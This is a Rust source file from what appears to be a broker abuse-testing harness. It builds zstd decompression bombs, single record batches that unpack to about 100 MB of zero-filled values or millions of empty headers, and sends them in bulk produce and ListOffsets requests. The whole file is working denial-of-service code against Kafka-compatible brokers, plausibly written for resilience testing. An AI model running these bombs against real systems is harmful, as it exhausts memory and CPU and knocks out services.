//! Batches that unpack into twenty thousand times their bytes, where a broker must look into them.

use bytes::Bytes;
use futures::FutureExt;
use futures::future::BoxFuture;
use protocol::Records;
use protocol::compression::Codec;
use protocol::messages::list_offsets::{ListOffsetsPartition, ListOffsetsTopic};
use protocol::messages::produce::{PartitionProduceData, TopicProduceData};
use protocol::messages::{ListOffsetsRequest, ProduceRequest};
use protocol::record_batch::repack;
use protocol::records::{BatchOptions, Record, build_batch};

use super::topics;
use crate::abuse::good::Target;
use crate::abuse::manners::{Attack, asks};
use crate::produce;

const PRODUCE_VERSION: i16 = 9;
const LIST_OFFSETS_VERSION: i16 = 7;
const TOPIC: &str = "bombs";
/// Unpacked.
const BYTES: usize = 100_000_000;
const BYTES_ANEW: usize = 60_000_000;
const AT_ONCE: i32 = 20;
/// The timestamp that asks for the largest one.
const LARGEST: i64 = -3;

type Ready<'a> = BoxFuture<'a, anyhow::Result<Vec<Attack>>>;

/// One record with a long value, or with very many empty headers, each of which must be looked at.
fn bombs(bytes: usize) -> anyhow::Result<[Bytes; 2]> {
    // Attributes, timestamp, offset, a key of one byte.
    let start = [0, 0, 0, 2, b'k'];
    let value = [&start, &varint(bytes)[..], &vec![0; bytes], &[0]].concat();
    let headers = [0, 1].repeat(bytes / 2);
    let headers = [&start, &[1][..], &varint(bytes / 2), &headers].concat();
    let plain = build_batch(&[Record::default()], BatchOptions::default());
    let bomb = |record: Vec<u8>| {
        let contents = [varint(record.len()), record].concat();
        repack(&plain, &contents, (Codec::Zstd, 1), &|| true)
    };
    Ok([bomb(value)?, bomb(headers)?])
}

/// A number that is not negative, as records have them.
fn varint(value: usize) -> Vec<u8> {
    let mut left = value * 2;
    let mut bytes = Vec::new();
    while left > 0x7f {
        bytes.push(u8::try_from(left & 0x7f).unwrap_or_default() | 0x80);
        left >>= 7;
    }
    bytes.push(u8::try_from(left).unwrap_or_default());
    bytes
}

async fn create(target: &Target, partitions: i32) -> anyhow::Result<()> {
    let compacted = [("cleanup.policy", "compact")];
    topics::create(target, TOPIC, partitions, &compacted).await
}

/// Twenty in a request, or one, to a compacted topic.
pub(in crate::abuse) fn produced(target: &Target) -> Ready<'_> {
    async {
        create(target, AT_ONCE).await?;
        let [value, headers] = bombs(BYTES)?;
        let request = |bomb: &Bytes, count| ProduceRequest {
            acks: -1,
            timeout_ms: 60_000,
            topic_data: vec![TopicProduceData {
                name: TOPIC.to_owned(),
                partition_data: (0..count)
                    .map(|index| PartitionProduceData {
                        index,
                        records: Some(Records::from(bomb.clone())),
                    })
                    .collect(),
            }],
            ..Default::default()
        };
        let requests = [
            request(&value, AT_ONCE),
            request(&headers, AT_ONCE),
            request(&value, 1),
            request(&headers, 1),
        ];
        Ok(vec![asks(20, &target.kafka, PRODUCE_VERSION, &requests)])
    }
    .boxed()
}

/// As large as what is packed anew may be, to a topic that has all packed anew by snappy, and beside it searches by time.
pub(in crate::abuse) fn repacked(target: &Target) -> Ready<'_> {
    async {
        const ANEW: &str = "anew";
        let configs = [
            ("compression.type", "snappy"),
            ("max.message.bytes", "100000000"),
        ];
        topics::create(target, ANEW, 1, &configs).await?;
        let [value, _] = bombs(BYTES_ANEW)?;
        let request = produce::request(ANEW, 0, value);
        let mut attacks = vec![asks(8, &target.kafka, PRODUCE_VERSION, &[request])];
        attacks.extend(searched(target).await?);
        Ok(attacks)
    }
    .boxed()
}

/// The largest timestamp of each of five hundred partitions with a bomb in it.
pub(in crate::abuse) fn searched(target: &Target) -> Ready<'_> {
    async {
        let partitions = if target.short { 16 } else { 512 };
        create(target, partitions).await?;
        let [value, _] = bombs(BYTES)?;
        topics::fill(target, TOPIC, partitions, &value).await?;
        let partition = |partition_index| ListOffsetsPartition {
            partition_index,
            current_leader_epoch: -1,
            timestamp: LARGEST,
        };
        let request = ListOffsetsRequest {
            replica_id: -1,
            topics: vec![ListOffsetsTopic {
                name: TOPIC.to_owned(),
                partitions: (0..partitions).map(partition).collect(),
            }],
            ..Default::default()
        };
        Ok(vec![asks(
            20,
            &target.kafka,
            LIST_OFFSETS_VERSION,
            &[request],
        )])
    }
    .boxed()
}
